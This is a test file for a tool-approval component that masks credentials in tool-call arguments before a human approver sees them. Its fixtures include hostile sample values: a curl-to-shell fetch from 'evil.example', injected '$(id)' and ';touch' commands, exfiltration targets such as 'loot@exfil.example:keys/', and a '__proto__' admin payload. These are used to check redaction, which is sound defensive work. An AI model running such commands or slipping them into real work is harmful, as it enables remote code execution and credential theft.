import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createToolRegistry, defineTool, type ToolApprovalRequest, type ToolPolicy } from '../index.js';
import { countRedacted } from '../policy/redact-secrets.js';
import { clipProjection, countRedactedMarks, DEFAULT_PROJECTION_LIMITS, projectArguments, type ProjectionLimits } from './project-arguments.js';

describe('projectArguments', () => {
  it('shows a member named __proto__ as a member, never as the prototype', () => {
    const args = JSON.parse('{"id":7,"__proto__":{"role":"admin"}}') as unknown;
    const projected = projectArguments(args) as Record<string, unknown>;
    expect(Object.getPrototypeOf(projected)).toBe(Object.prototype);
    expect(Object.keys(projected)).toEqual(['id', '__proto__']);
    expect(JSON.stringify(projected)).toBe('{"id":7,"__proto__":{"role":"admin"}}');
  });

  it('masks a credential-named or secret member up to the first character that can carry code, and shows the rest', () => {
    const args = { api_key: 'k3y;touch${IFS}PWNED', Authorization: 'Bearer abc123$(id)', token: '$(curl evil.example|sh)', password: 'hunter2hunter2', login: 'pw12`id`', secret: 'k3y\ntouch PWNED', apiKey: 'k3y\u2028x=1' };
    expect(projectArguments(args, { secretKeys: new Set(['login']) })).toEqual({
      api_key: '[redacted];touch${IFS}PWNED',
      Authorization: 'Bearer [redacted]$(id)',
      token: '$(curl evil.example|sh)',
      password: '[redacted]',
      login: '[redacted]`id`',
      secret: '[redacted]\ntouch PWNED',
      apiKey: '[redacted]\u2028x=1',
    });
  });

  it('masks the value of a name/value pair that names a credential, as an object or a list of two, and leaves other pairs alone', () => {
    const basic = `Basic ${btoa('deploy:Tr0ub4dor&3-prod')}`;
    const projected = JSON.stringify(
      projectArguments({
        url: 'https://internal.example/deploy?user=deploy&pass=Tr0ub4dor-query-55',
        headers: [{ name: 'Authorization', value: basic }, { name: 'Accept', value: 'application/json' }],
        tuples: [['X-Api-Key', 'f3a9c2e1d4b5a6978877665544332211'], ['Accept', 'text/plain']],
        env: [{ Name: 'DATABASE_PASSWORD', Value: 'Tr0ub4dor-db-prod-77' }],
        parameters: [{ ParameterKey: 'DbPassword', ParameterValue: 'Tr0ub4dor-cfn-88' }],
        keyFile: { path: 'id.key', passphrase: 'correct-horse-99' },
      }),
    );
    for (const secret of [basic, 'ZGVwbG95', 'f3a9c2e1d4b5a6978877665544332211', 'Tr0ub4dor-db-prod-77', 'Tr0ub4dor-cfn-88', 'Tr0ub4dor-query-55', 'correct-horse-99']) {
      expect(projected, secret).not.toContain(secret);
    }
    // The names stay, and so do pairs that name no credential.
    expect(projected).toContain('"name":"Authorization","value":"Basic [redacted]"');
    expect(projected).toContain('"value":"application/json"');
    expect(projected).toContain('["Accept","text/plain"]');
  });

  it('masks a credential in the shapes real APIs give it: a list or an object under its name, a path-named pair, a pair named past the cut, cookies, AWS secrets', () => {
    const projected = JSON.stringify(
      projectArguments({
        headers: { Authorization: [`Basic ${btoa('deploy:array-1')}`], 'X-Api-Key': ['a1b2c3d4e5f60718293a4b5c6d7e8f90'] },
        password: { value: 'object-held-22' },
        credentials: { host: 'db.attacker.example', path: '../../.git/config', password: 'nested-23' },
        env: [{ name: 'Authorization', value: ['pair-list-33'] }, { name: 'PGPASSWORD', value: 'libpq-44' }, { name: 'MYSQL_PWD', value: 'mysql-55' }],
        ssm: { Name: '/prod/db/password', Value: 'ssm-66', Type: 'SecureString' },
        tuples: [['api-key', 'azure-77'], ['PRIVATE-TOKEN', 'gitlab-78'], ['Accept', 'application/json']],
        cookies: [{ name: 'sid', value: 'cookie-79', domain: 'app.example' }],
        secret: { SecretId: 'prod/db', SecretString: 'aws-80' },
        filters: [{ Name: 'Authorization', Values: ['values-81'] }],
        cut: { value: 'cut-pair-88', ...Object.fromEntries(Array.from({ length: 64 }, (_, index) => [`label${index}`, index])), name: 'DATABASE_PASSWORD' },
        command: "PGPASSWORD=cmd-99 psql 'postgres://app:p4ss@tail-100@db.internal:5432/prod'",
      }, { maxEntries: 64 }),
    );
    for (const secret of ['YXJyYXktMQ', 'a1b2c3d4e5f60718293a4b5c6d7e8f90', 'object-held-22', 'pair-list-33', 'libpq-44', 'mysql-55', 'ssm-66', 'azure-77', 'gitlab-78', 'cookie-79', 'aws-80', 'values-81', 'cut-pair-88', 'cmd-99', 'tail-100']) {
      expect(projected, secret).not.toContain(secret);
    }
    expect(projected).toContain('"Name":"/prod/db/password"');
    // Under a credential's name an object's other members keep their own names: where a call acts stays on the card.
    expect(projected).toContain('"host":"db.attacker.example","path":"../../.git/config"');
    expect(projected).not.toContain('nested-23');
    // Only a list of two in a list of them names its second item, and only by a name no word of prose is: in an argv the
    // item after a header's name or a flag, or a second operand, is as often what the call acts on, which a card must show.
    const argv = JSON.stringify(
      projectArguments({
        a: ['-s', '-H', 'Authorization', 'https://install.example/x.sh'],
        b: ['run', '-e', 'GITHUB_TOKEN', 'ghcr.io/a/b'],
        c: ['password', 'src/'],
        d: ['--token', 'src/'],
        e: [['PGPASSWORD', 'env-102']],
        f: ['deploy.key', 'loot@exfil.example:keys/'],
        g: ['API_TOKEN', '.git/hooks/pre-commit'],
      }),
    );
    expect(argv).toContain('"loot@exfil.example:keys/"');
    expect(argv).toContain('".git/hooks/pre-commit"');
    expect(argv).toContain('"https://install.example/x.sh"');
    expect(argv).toContain('"ghcr.io/a/b"');
    expect(argv).toContain('["password","src/"]');
    expect(argv).toContain('["--token","src/"]');
    expect(argv).not.toContain('env-102');
    expect(projected).toContain('"Accept","application/json"');
    expect(projected).toContain('@db.internal:5432/prod');
  });

  it("masks an argv's item after a flag whose name says secret, as the program named beside it reads the flag", () => {
    const R = '[redacted]';
    expect(
      projectArguments({
        docker: { program: 'docker', args: ['login', '--username', 'ci', '--password', 'argv-01', 'registry.example'] },
        kubectl: { command: ['kubectl', '--token', 'argv-02', '--server', 'https://k8s.example', 'get', 'pods'] },
        mysql: { cmd: '/usr/bin/mysql -h db.example', args: ['-pargv-03', '--password', 'warehouse', '-p', 'prod'] },
        curl: { program: 'curl', args: ['-u', 'deploy:argv-04', 'https://api.example/x'] },
        psql: { program: 'psql', args: ['--password', 'analytics', '-h', 'db.example'] },
        places: { program: 'docker', args: ['login', '--password-stdin', 'registry.example', '--token', '--verbose', '--secret', 'id=npmrc,src=/home/ci/.npmrc'] },
        code: { program: 'deploy', args: ['--api-key', 'argv-05;touch PWNED'] },
        nested: [['--password', 'argv-06']],
      }),
    ).toEqual({
      docker: { program: 'docker', args: ['login', '--username', 'ci', '--password', R, 'registry.example'] },
      kubectl: { command: ['kubectl', '--token', R, '--server', 'https://k8s.example', 'get', 'pods'] },
      mysql: { cmd: '/usr/bin/mysql -h db.example', args: [`-p${R}`, '--password', 'warehouse', '-p', 'prod'] },
      curl: { program: 'curl', args: ['-u', `deploy:${R}`, 'https://api.example/x'] },
      psql: { program: 'psql', args: ['--password', 'analytics', '-h', 'db.example'] },
      places: { program: 'docker', args: ['login', '--password-stdin', 'registry.example', '--token', '--verbose', '--secret', 'id=npmrc,src=/home/ci/.npmrc'] },
      code: { program: 'deploy', args: ['--api-key', `${R};touch PWNED`] },
      nested: [['--password', R]],
    });
  });

  it('judges a member name the same every time it recurs, past any number of other names', () => {
    const token = `ghp_${'c'.repeat(36)}`;
    const args = { [token]: 'one', password: 'hunter2hunter2', path: 'notes/today.md', 'X-Api-Key': 12345678 };
    const expected = { '[redacted]': 'one', password: '[redacted]', path: 'notes/today.md', 'X-Api-Key': '[redacted]' };
    expect(projectArguments(args)).toEqual(expected);
    for (let round = 0; round < 3; round += 1) {
      // Thousands of other names in between: whatever is kept of them, the answers stay those of a fresh scan.
      projectArguments(Object.fromEntries(Array.from({ length: 2500 }, (_, index) => [`name${round}_${index}`, index])));
      expect(projectArguments(args)).toEqual(expected);
    }
  });

  it('tells of each value it cuts short: a long string, a list or an object past its bound, a level too deep', () => {
    let cut = 0;
    const onCut = (): void => {
      cut += 1;
    };
    const args = { text: 'x'.repeat(20), list: [1, 2, 3, 4], nest: { object: { a: 1, b: 2, c: 3, d: 4 }, deep: { a: { b: 1 } } } };
    expect(projectArguments(args, { maxString: 10, maxEntries: 3, maxDepth: 3, onCut })).toEqual({
      text: 'xxxxxxxxxx… [10 more characters]',
      list: [1, 2, 3, '[1 more items]'],
      nest: { object: { a: 1, b: 2, c: 3, '…': '[1 more keys]' }, deep: { a: '[nested]' } },
    });
    expect(cut).toBe(4);
    cut = 0;
    projectArguments({ short: 'ok', list: [1] }, { onCut });
    expect(cut).toBe(0);
  });

  it('keeps two keys that redact alike apart', () => {
    const first = `ghp_${'a'.repeat(36)}`;
    const second = `ghp_${'b'.repeat(36)}`;
    expect(projectArguments({ [first]: 'one', [second]: 'two' })).toEqual({ '[redacted]': 'one', '[redacted] (2)': 'two' });
  });

  it('masks what header-named and credential-named members hold, at any depth, whatever its shape', () => {
    const projected = projectArguments({
      url: 'https://api.example.com/v1/items?token=9f8e7d6c&page=2',
      headers: {
        Accept: 'application/json',
        Authorization: 'Bearer opaque-value-1',
        'Proxy-Authorization': 'opaque-value-2',
        Cookie: 'sid=opaque3; theme=dark',
        'Set-Cookie': 'sid=opaque4; Path=/; HttpOnly',
        'X-Api-Key': 'opaque-value-5',
        'x-auth-token': 'opaque6',
      },
      config: { password: 'correct-horse-battery-staple', passphrase_secret: 'correct horse battery', api_key: 'k', client_secret: 12345678, public_key: 'ssh-ed25519 AAAAC3Nza me@host', retries: 3 },
    });
    expect(projected).toEqual({
      url: 'https://api.example.com/v1/items?token=[redacted]&page=2',
      headers: {
        Accept: 'application/json',
        Authorization: 'Bearer [redacted]',
        'Proxy-Authorization': '[redacted]',
        Cookie: 'sid=[redacted]; theme=[redacted]',
        'Set-Cookie': 'sid=[redacted]; Path=/; HttpOnly',
        'X-Api-Key': '[redacted]',
        'x-auth-token': '[redacted]',
      },
      // A masked value is one word (a server may paste it into a command line unquoted): a passphrase shows its later words.
      // A public key names no secret, and shows: it is what decides who gets in.
      config: { password: '[redacted]', passphrase_secret: '[redacted] horse battery', api_key: '[redacted]', client_secret: '[redacted]', public_key: 'ssh-ed25519 AAAAC3Nza me@host', retries: 3 },
    });
  });

  it('leaves placeholders, and members whose names are credentials only in a query (key, session, auth, signature, pwd)', () => {
    const args = {
      token: '<your-token>',
      password: '********',
      secret: '',
      headers: { Authorization: 'Bearer ${TOKEN}' },
      key: 'Enter',
      session: 'main',
      auth: 'oauth',
      signature: 'fn(a: int): int',
      pwd: '/home/user/project',
    };
    expect(projectArguments(args)).toEqual(args);
  });

  it('shows the approver every argument the tool will get, __proto__ included', async () => {
    const seen: ToolApprovalRequest[] = [];
    const tool = defineTool({ name: 'update_user', description: 'Update a user.', input: { type: 'object', properties: { id: { type: 'number' } } }, dispatch: (args) => args });
    const asks: ToolPolicy = { version: 1, decideIdentity: () => ({ kind: 'allow', matched: [] }), decideArguments: () => ({ kind: 'ask', reason: 'rule', matched: [] }) };
    const registry = createToolRegistry({ tools: [tool], policy: asks });
    const outcome = await registry.dispatch(
      { callId: 'p', name: 'update_user', arguments: '{"id":7,"__proto__":{"role":"admin"}}' },
      { grantedTools: ['update_user'], approval: { confirm: (request) => (seen.push(request), Promise.resolve({ outcome: 'reject' })) } },
    );
    expect(outcome.ok).toBe(false);
    expect(JSON.stringify(seen[0]?.arguments)).toBe('{"id":7,"__proto__":{"role":"admin"}}');
  });
});

/** Strings that matter to a cut: short and long, secrets, credential names, and text that reads like a cut's own marks. */
const word = fc.oneof(
  fc.string({ maxLength: 12 }),
  fc.constantFrom('… [5 more characters]', '[3 more items]', '[2 more keys]', '[redacted]', '[nested]', '…', '__proto__', 'password', 'apiKey', `AKIA${'Q'.repeat(16)}`, 'ghp_' + 'a'.repeat(36)),
  fc.tuple(fc.constantFrom('x', 'é', '😀', '"'), fc.integer({ min: 100, max: 700 }), fc.constantFrom('', ' … [9 more characters]', ` AKIA${'Q'.repeat(16)}`)).map(([unit, count, tail]) => unit.repeat(count) + tail),
);
const { node: argumentsValue } = fc.letrec((tie) => ({
  node: fc.oneof({ maxDepth: 6, depthSize: 'small' }, word, fc.integer(), fc.boolean(), fc.constant(null), tie('list'), tie('record')),
  list: fc.oneof(fc.array(tie('node'), { maxLength: 6 }), fc.array(fc.integer(), { minLength: 15, maxLength: 80 }), fc.array(word, { minLength: 60, maxLength: 70 })),
  record: fc.oneof(fc.dictionary(word, tie('node'), { maxKeys: 6 }), fc.dictionary(fc.string({ maxLength: 4 }), fc.integer(), { minKeys: 15, maxKeys: 70 })),
}));
const limits = fc.record({ maxString: fc.integer({ min: 0, max: 512 }), maxDepth: fc.integer({ min: 0, max: 8 }), maxEntries: fc.integer({ min: 0, max: 64 }) });

describe('projectArguments with freeze', () => {
  it('freezes every object and list it builds, at every depth, and nothing without it', () => {
    const args = { note: 'n', list: [{ deep: [1, { token: 'hunter2hunter2' }] }], more: { a: { b: {} } } };
    const containers = (value: unknown): unknown[] =>
      typeof value === 'object' && value !== null ? [value, ...Object.values(value).flatMap(containers)] : [];
    const frozen = containers(projectArguments(args, { freeze: true }));
    expect(frozen).toHaveLength(8);
    for (const value of frozen) expect(Object.isFrozen(value)).toBe(true);
    for (const value of containers(projectArguments(args))) expect(Object.isFrozen(value)).toBe(false);
    expect(projectArguments(args, { freeze: true })).toEqual(projectArguments(args));
  });
});

describe('clipProjection', () => {
  it('cuts a projection to tighter limits exactly as projecting the value with them does, or says it cannot', () => {
    fc.assert(
      fc.property(fc.dictionary(word, argumentsValue, { maxKeys: 8 }), limits, (args, to: ProjectionLimits) => {
        const clipped = clipProjection(projectArguments(args), DEFAULT_PROJECTION_LIMITS, to);
        if (clipped !== undefined) expect(JSON.stringify(clipped.value)).toBe(JSON.stringify(projectArguments(args, to)));
      }),
      { numRuns: 400 },
    );
  });

  it('cuts long strings, long lists and deep levels, and leaves a member named … to a projection of its own', () => {
    const args = { note: 'n'.repeat(600), list: Array.from({ length: 70 }, (_, index) => index), deep: { a: { b: { c: 1 } } }, many: Object.fromEntries(Array.from({ length: 20 }, (_, index) => [`k${index}`, index])) };
    const to = { maxString: 120, maxDepth: 3, maxEntries: 16 };
    const clipped = clipProjection(projectArguments(args), DEFAULT_PROJECTION_LIMITS, to) as { value: Record<string, unknown> };
    expect(clipped.value).toEqual(projectArguments(args, to));
    expect(clipped.value.note).toBe(`${'n'.repeat(120)}… [480 more characters]`);
    expect((clipped.value.list as unknown[]).at(-1)).toBe('[54 more items]');
    expect(clipped.value.deep).toEqual({ a: { b: '[nested]' } });
    expect(clipProjection(projectArguments({ '…': 1 }), DEFAULT_PROJECTION_LIMITS, to)).toBeUndefined();
    // 70 keys: the projection itself ends on a member named …, which says how many it left out.
    expect(clipProjection(projectArguments(Object.fromEntries(Array.from({ length: 70 }, (_, index) => [`k${index}`, index]))), DEFAULT_PROJECTION_LIMITS, to)).toBeUndefined();
  });
});

describe('clipProjection at the edges of its domain', () => {
  it('says it cannot where a tighter limit is wider than the projection’s', () => {
    const small = { maxString: 4, maxDepth: 1, maxEntries: 2 };
    for (const [args, to] of [
      [{ s: 'abcdefghijkl' }, { ...small, maxString: 10 }],
      [{ l: [1, 2, 3, 4] }, { ...small, maxEntries: 5 }],
      [{ a: { b: 1 } }, { ...small, maxDepth: 3 }],
    ] as const) {
      expect(clipProjection(projectArguments(args, small), small, to)).toBeUndefined();
    }
  });

  it('never cuts the projection’s own labels, which a projection does not cut, and cuts a bigint as a projection does', () => {
    const secretKeys = new Set(['token']);
    const cases: [Record<string, unknown>, ProjectionLimits, ProjectionLimits, ReadonlySet<string> | undefined][] = [
      [{ token: 1234 }, DEFAULT_PROJECTION_LIMITS, { maxString: 5, maxDepth: 3, maxEntries: 16 }, secretKeys],
      [{ a: {} }, { maxString: 512, maxDepth: 1, maxEntries: 64 }, { maxString: 3, maxDepth: 1, maxEntries: 64 }, undefined],
      [{ n: 10n ** 200n }, DEFAULT_PROJECTION_LIMITS, { maxString: 120, maxDepth: 3, maxEntries: 16 }, undefined],
      [{ f: () => 1, b: new Uint8Array(3) }, DEFAULT_PROJECTION_LIMITS, { maxString: 4, maxDepth: 3, maxEntries: 16 }, undefined],
    ];
    for (const [args, from, to, keys] of cases) {
      const clipped = clipProjection(projectArguments(args, { ...from, secretKeys: keys }), from, to);
      if (clipped !== undefined) expect(clipped.value).toEqual(projectArguments(args, { ...to, secretKeys: keys }));
    }
    // A bigint of 201 digits is a string of 201 characters to a projection: cut, and said how much.
    expect(projectArguments({ n: 10n ** 200n }, { maxString: 120 })).toEqual({ n: `1${'0'.repeat(119)}… [81 more characters]` });
  });
});

describe('countRedactedMarks', () => {
  it('counts no mark in a member its JSON text leaves out', () => {
    const projection = projectArguments({ [`AKIA${'Q'.repeat(16)}`]: undefined, kept: `AKIA${'Q'.repeat(16)}` });
    expect(countRedactedMarks(projection)).toBe(countRedacted(JSON.stringify(projection)));
  });

  it('counts the marks the projection’s JSON text holds', () => {
    fc.assert(
      fc.property(fc.dictionary(word, argumentsValue, { maxKeys: 8 }), (args) => {
        const projection = projectArguments(args);
        expect(countRedactedMarks(projection)).toBe(countRedacted(JSON.stringify(projection)));
      }),
      { numRuns: 300 },
    );
    expect(countRedactedMarks(projectArguments({ password: 'hunter2hunter2', [`AKIA${'Q'.repeat(16)}`]: [`key AKIA${'Q'.repeat(16)}`] }))).toBe(3);
  });
});
